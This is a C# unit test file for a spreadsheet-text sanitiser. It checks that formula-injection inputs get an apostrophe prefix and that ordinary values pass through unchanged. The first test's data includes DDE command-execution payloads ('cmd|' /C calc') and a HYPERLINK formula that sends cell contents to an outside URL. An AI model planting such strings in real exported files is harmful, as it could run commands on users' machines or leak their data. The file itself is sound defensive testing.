using Predictive.History.Sheets;

namespace Predictive.History.Tests.Sheets;

public sealed class SheetTextTests
{
    // What OWASP's page on CSV injection and the payloads known from reports begin with.
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("@")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("-A1")]
    [InlineData("+A1")]
    [InlineData("-(1)")]
    [InlineData("--1")]
    [InlineData("-1e")]
    [InlineData("-e1")]
    [InlineData("+1-800-555-0100")]
    [InlineData("\t=1")]
    [InlineData("\tplain")]
    [InlineData("\rplain")]
    [InlineData("\nplain")]
    [InlineData("\uFF1D1+1")]
    [InlineData("\uFF0B1")]
    [InlineData("\uFF0D1")]
    [InlineData("\uFF20SUM(A1)")]
    [InlineData("  =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\u200B=1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\"=1+1\"")]
    [InlineData("\u201C=1+1")]
    [InlineData("'=1+1")]
    [InlineData("''=1+1")]
    public void LiveTextGetsAnApostrophe(string text)
    {
        Assert.Equal("'" + text, SheetText.Defuse(text));
        Assert.Equal(text, SheetText.Restore("'" + text));
    }

    [Theory]
    [InlineData("")]
    [InlineData("00001")]
    [InlineData("-5.25")]
    [InlineData("-1.234,50")]
    [InlineData("+49 170 1234567")]
    [InlineData("-1e-5")]
    [InlineData("+2E10")]
    [InlineData("-12 %")]
    [InlineData("-")]
    [InlineData("+ ")]
    [InlineData("1-A")]
    [InlineData("a=b")]
    [InlineData("anna@example.org")]
    [InlineData("12\" ruler")]
    [InlineData("'s-Hertogenbosch")]
    [InlineData("\"quoted\"")]
    [InlineData("  two blanks")]
    [InlineData("Zoë")]
    public void OtherTextStaysAsItIs(string text)
    {
        Assert.Equal(text, SheetText.Defuse(text));
        Assert.Equal(text, SheetText.Restore(text));
    }
}
